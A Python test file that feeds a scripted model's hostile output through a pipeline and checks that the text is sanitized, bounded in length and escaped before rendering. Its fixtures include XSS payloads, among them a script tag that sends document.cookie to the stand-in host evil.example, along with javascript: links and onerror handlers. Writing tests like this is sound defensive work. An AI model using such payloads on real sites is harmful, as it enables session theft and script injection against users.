"""Hostile model output: Markdown/HTML/script, control and bidi characters, runaway length.

Every stage of the scripted model answers with hostile text. Afterwards the rows, rejects and
revisions hold no control characters and bounded lengths, and nothing a model wrote is live
markup in any card (each round's, README) or in what the Space renders (header, round details,
summary diff), while the Space's tables still show the text itself.
"""

from __future__ import annotations

import itertools
import re

import pytest

import hfadvisor
from hfadvisor.loop import RAW_LIMIT
from hfadvisor.rundir.store import RunStore
from hfadvisor.serve.backend import GenerationRequest
from hfadvisor.space import data
from hfadvisor.stages.text import _CONTROL

GROUP = "Hostile model output"
UNITS = ("a run whose model answers only hostile text", "one hostile answer served by the model")
pytestmark = pytest.mark.reliability

CONTROL = "\x00\x07\x1b[31m\x08\u202e\u200b\ufeff"
WEAKNESS = [
    "<script>alert('w')</script> weak",
    "**Bold** [click](javascript:alert(1)) | pipe | cell",
    "<img src=x onerror=alert(1)> ![i](https://evil.example/x.png)",
]
GENERATED = [
    "<script>fetch('https://evil.example/?c='+document.cookie)</script> how to hide money {n}",
    "[harmless link {n}](https://evil.example/{n}) <b>bold</b> <iframe src=//evil.example></iframe>",
    "| table | break {n} |\n|---|---|\n# heading {n}",
    "<a href=javascript:alert({n})>x</a> ```code``` ~~strike~~ {n} and some more words",
]
LIVE_MARKUP = re.compile(r"<(script|img|iframe|a|b)\b|(?<!\\)\]\((?:https?://evil|javascript:)", re.I)  # model links


def stage_of(prompt: str) -> str:
    if "One more" in prompt:
        return "weakness"
    if "New list" in prompt:
        return "summarize"
    return "generate"


def hostile(req: GenerationRequest, n=itertools.count()) -> str:  # noqa: B008 - a counter shared by calls
    i = next(n)
    stage = stage_of(req.prompt)
    if stage == "weakness":
        return f" {WEAKNESS[i % len(WEAKNESS)]} {i}{CONTROL}\n"
    if stage == "summarize":
        return f" <b>summary {i}</b> [l](http://evil.example){CONTROL}\n"
    if i % 7 == 3:
        return " " + "runaway " * 3000  # one line far over the length limit
    return " " + GENERATED[i % len(GENERATED)].format(n=i) + CONTROL + "\n"


def live_markup(text: str) -> list[str]:
    return [m.group(0) for m in LIVE_MARKUP.finditer(text)]


def test_hostile_text_is_stripped_bounded_and_escaped(tmp_path, scripted_tgi, tally):
    scripted_tgi.backend.respond = hostile
    out = tmp_path / "run"
    store = hfadvisor.run(out, endpoints=[scripted_tgi.url], rounds=3, batch_size=6, metrics=False)
    store = RunStore.open(out, repair=False)
    max_chars = store.info.method["validation"]["max_chars"]
    rows = store.table().to_pylist()
    rejects = store.rejects_table().to_pylist()
    revisions = list(store.revisions())
    assert len(rows) > 10 and rejects, "the run kept hostile rows and rejected the runaway ones"
    assert any(r["reason"] == "too_long" for r in rejects)

    # control characters stripped, lengths bounded
    texts = [r["prompt"] for r in rows] + [r["text"] for r in rejects] + [r["raw"] for r in rejects]
    texts += [line for rev in revisions for line in rev.summary_after] + [rev.weakness or "" for rev in revisions]
    assert [t for t in texts if _CONTROL.search(t)] == []
    assert all(len(r["prompt"]) <= max_chars for r in rows)
    assert all(len(r["raw"]) <= RAW_LIMIT and len(r["text"]) <= RAW_LIMIT for r in rejects)
    assert all(len((rev.weakness or "").split()) <= 12 for rev in revisions)
    # the text itself is kept as data (escaping is for rendering, not storage)
    assert any("<script>" in r["prompt"] for r in rows)

    # cards: nothing a model wrote is live markup; history rows stay one table row each
    cards = {p.name: p.read_text() for p in (out / "cards").iterdir()} | {"README.md": (out / "README.md").read_text()}
    for name, text in cards.items():
        assert live_markup(text) == [], name
        for line in text.splitlines():
            if re.match(r"^\| \d+ \| ", line) and line.count("|") > 6:
                assert len(re.split(r"(?<!\\)\|", line)) == 7, (name, line)

    # the Space: header, round details and summary diff escaped; tables show the text as text
    from hfadvisor.space.tabs.explore import run_header

    view = data.open_local(out)
    rendered = [run_header(view)]  # Markdown: neither tags nor links may be live
    html_parts = []  # HTML (gr.HTML): Markdown syntax is inert there, tags must be escaped
    for rev in revisions:
        rendered.append(data.round_markdown(view, rev.round))
        html_parts.append(data.summary_diff_html(rev))
        shown = data.samples(view, rev.round)
        assert shown["prompt"].tolist() == [r["prompt"] for r in rows if r["round"] == rev.round]
    assert [live_markup(t) for t in rendered if live_markup(t)] == []
    assert [t for t in html_parts if re.search(r"<(script|img|iframe|a|b)\b", t)] == []
    assert any("&lt;script&gt;" in t for t in rendered) and any("&lt;b&gt;" in t for t in html_parts)
    assert [t for t in data.timeline(view)["weakness"] if _CONTROL.search(t)] == []
    # every answer served (the server's log) is accounted for: a row, a reject, or the round's weakness/summary
    served = len(scripted_tgi.backend.calls)
    generated = sum(1 for c in scripted_tgi.backend.calls if stage_of(c.request.prompt) == "generate")
    assert generated == len(rows) - 10 + len(rejects)  # rows beyond the 10 seeds + rejects
    tally.trial()
    tally.fault(survived=True, n=served)  # reached only when every check above held for all of them
